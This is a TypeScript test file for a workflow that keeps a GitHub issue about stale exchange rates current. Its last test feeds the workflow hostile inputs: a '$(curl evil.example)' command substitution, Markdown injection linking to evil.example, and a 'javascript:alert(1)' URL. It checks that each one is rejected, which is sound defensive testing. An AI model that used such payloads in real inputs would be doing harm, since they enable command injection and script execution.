import { describe, expect, it } from 'vitest';
import { type LongStaleness, longStaleness } from './long-staleness.ts';
import { issueKeeper } from '../../testing/servers/issue-keeper.ts';
import { CommandError } from '../terminal/command.ts';
import { keepStaleIssue } from './stale-issue.ts';

const [first, second] = ['https://one.example/usd.json', 'https://two.example/usd.json'];
const stale: LongStaleness = {
  since: '2026-09-30T00:23:00.000Z',
  asOf: '2026-09-27',
  mirrors: [
    { mirror: first, outcome: 'current', date: '2026-09-27' },
    { mirror: second, outcome: 'failed', date: null },
  ],
};

const workflow = issueKeeper(keepStaleIssue);
const { keep } = workflow;

describe('longStaleness (reports rates that have been stale for a day)', () => {
  const { since, ...rest } = stale;
  const snapshot = { ...rest, staleSince: since };

  it.each([
    ['null if the rates have been stale for less than a day', '2026-10-01T00:22:59.999Z', null],
    [
      'since when the rates are stale, and what each mirror returned, if the rates have been stale for a day',
      '2026-10-01T00:23:00.000Z',
      stale,
    ],
  ])('returns %s', (_, checkedAt, expected) => {
    expect(longStaleness({ ...snapshot, checkedAt })).toEqual(expected);
    expect(longStaleness({ ...snapshot, checkedAt, staleSince: null })).toBeNull();
  });
});

describe('keepStaleIssue (opens, edits and closes a GitHub issue about stale rates)', () => {
  it('opens one issue that says since when the rates are stale and what each mirror returned', async () => {
    for (let times = 0; times < 2; times++) await keep(stale);
    expect(workflow.api.issues).toMatchObject([{ state: 'open', title: 'The rates have been stale for a day' }]);
    const { body = '' } = workflow.api.issues[0] ?? {};
    expect(body).toContain(
      'The published rates are from 2026-09-27. They have been stale since 2026-09-30T00:23:00.000Z',
    );
    expect(body.match(/^- `http.*$/gm)).toEqual([
      `- \`${first}\`: 2026-09-27: the mirror’s dataset has the same date as the published dataset.`,
      `- \`${second}\`: the mirror returned no usable dataset.`,
    ]);
    expect(workflow.api.edits).toEqual([]);
  });

  it('edits the issue’s text if a mirror’s response changes', async () => {
    await keep(stale);
    await keep({ ...stale, mirrors: [{ mirror: first, outcome: 'failed', date: null }] });
    expect(workflow.api.edits).toEqual(['body']);
    expect(workflow.api.issues).toMatchObject([{ state: 'open', comments: [] }]);
  });

  it('closes the issue if a successful publish has fresh rates', async () => {
    await keep(stale);
    await keep(null, 'failure');
    expect(workflow.api.issues).toMatchObject([{ state: 'open' }]);
    await keep(null);
    expect(workflow.api.issues).toMatchObject([
      { state: 'closed', comments: ['The rates are fresh again: https://github.com/me/fork/actions/runs/3'] },
    ]);
    await keep(stale);
    expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
  });

  it('opens no new issue after a person closes the issue, unless a new period of stale rates begins', async () => {
    await keep(stale);
    Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
    await keep({ ...stale, mirrors: [] });
    expect(workflow.api.issues).toHaveLength(1);
    await keep({ ...stale, since: '2026-10-20T00:23:00.000Z' });
    expect(workflow.api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
  });

  it('changes no issue if the publish job has no output', async () => {
    await keep(stale);
    await keep('');
    await keep('', 'failure');
    expect([workflow.api.issues.map(({ state }) => state), workflow.api.edits]).toEqual([['open'], []]);
  });

  const withMirror = (mirror: object) => JSON.stringify({ ...stale, mirrors: [{ ...stale.mirrors[0], ...mirror }] });
  it.each([
    ['isn’t JSON', 'nonsense'],
    ['is a list', '[]'],
    ['is an empty object', '{}'],
    ['has “@everyone” in place of a time', JSON.stringify({ ...stale, since: '@everyone' })],
    ['has a date that doesn’t exist', JSON.stringify({ ...stale, asOf: '2026-09-31' })],
    ['has Markdown in a mirror’s URL', withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' })],
    ['has a javascript: URL as a mirror', withMirror({ mirror: 'javascript:alert(1)' })],
    ['has a shell command as the outcome of a mirror', withMirror({ outcome: '$(curl evil.example)' })],
    ['has “@me” in place of a mirror’s date', withMirror({ date: '@me' })],
  ])('throws an error and opens no issue if the publish job’s output %s', async (_, output) => {
    await expect(keep(output)).rejects.toThrow(CommandError);
    expect(workflow.api.issues).toEqual([]);
  });
});
